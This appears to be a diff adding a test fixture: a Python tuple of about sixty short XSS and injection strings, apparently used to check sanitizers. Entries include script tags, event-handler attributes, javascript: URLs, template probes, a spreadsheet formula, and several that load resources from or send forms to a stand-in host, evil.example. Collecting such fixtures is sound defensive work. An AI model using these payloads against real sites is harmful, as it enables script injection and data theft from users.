@@ -1,0 +1,25 @@
+"""Sixty texts that try to be more than text, each short enough for a name."""
+
+CORPUS = (
+    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example></script>",
+    "<script/src=data:,alert(1)>", "<scr<script>ipt>alert(1)//", "</script><script>alert(1)</script>",
+    "</title><script>alert(1)</script>", "</textarea><script>alert(1)//",
+    "</style><script>alert(1)</script>", "--><script>alert(1)</script><!--", "]]><script>alert(1)</script>",
+    "<!--<script>alert(1)//-->", "<img src=x onerror=alert(1)>", "<img/src/onerror=alert(1)>",
+    '<img src="x`<script>`">', "<IMG SRC=jAvascript:alert(1)>", "<svg onload=alert(1)>",
+    "<svg/onload=alert(1)//", "</svg><svg onload=alert(1)>", "<svg><script>alert(1)</script>",
+    "<svg><a xlink:href=javascript:alert(1)>", "<svg><use href=data:x>", "<svg><set onbegin=alert(1)>",
+    "</text><image href=x onerror=alert(1)>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>",
+    "<iframe srcdoc='<b>'>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
+    "<base href=//evil.example/>", "<link rel=stylesheet href=//evil>",
+    "<meta http-equiv=refresh content=0>", "<form action=//evil.example><input>",
+    "<button formaction=//evil.example>", "<input autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>",
+    "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>", "<math href=javascript:alert(1)>x",
+    "<style>@import'//evil.example'</style>", "<p style=background:url(//evil)>",
+    "<a href=javascript:alert(1)>x</a>", "<template><b>x</b></template>", '" onmouseover="alert(1)',
+    "' onmouseover='alert(1)", '"><b>x</b>', "'><b>x</b>", '" autofocus onfocus=alert(1) x="',
+    "x onclick=alert(1)", "`onclick=alert(1)`", "javascript:alert(1)", "JaVaScRiPt:alert(1)//",
+    "data:text/html,<b>x</b>", "{{7*7}}", "{% raw %}${7*7}#{7*7}", "&lt;b&gt;x&lt;/b&gt;", "&#60;b&#62;x",
+    "\\x3cb\\x3e\\u003cb\\u003e", '=HYPERLINK("//evil")',
+)  # fmt: skip
